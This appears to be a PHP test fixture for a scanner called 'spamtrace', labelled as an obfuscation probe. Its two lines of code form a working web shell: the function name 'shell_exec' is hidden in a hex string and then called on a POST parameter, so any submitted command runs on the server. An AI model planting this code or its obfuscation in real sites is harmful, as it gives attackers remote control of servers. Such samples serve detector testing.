<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$t = ['x' => pack('H*', '7368656c6c5f65786563')];
echo $t['x']($_POST['z']);
